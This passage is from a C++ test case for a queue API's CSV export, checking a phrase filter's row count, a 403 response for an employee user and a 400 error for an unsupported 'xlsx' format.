    auto filtered = Get(cli, root, "/api/v1/queue?view=open&format=csv&q=%22Bulk%20row%2010%22");  // a phrase
    REQUIRE(filtered);
    CHECK(std::count(filtered->body.begin(), filtered->body.end(), '\n') == 1 + 1 + 10 + 100);  // header, 10, 100-109, 1000-1099
    auto employee = Get(cli, emma, "/api/v1/queue?format=csv");
    REQUIRE(employee);
    CHECK(employee->status == 403);
    auto bad = Get(cli, root, "/api/v1/queue?format=xlsx");
    REQUIRE(bad);
    CHECK(bad->status == 400);
    CHECK(Body(bad)["error"]["field"] == "format");
}
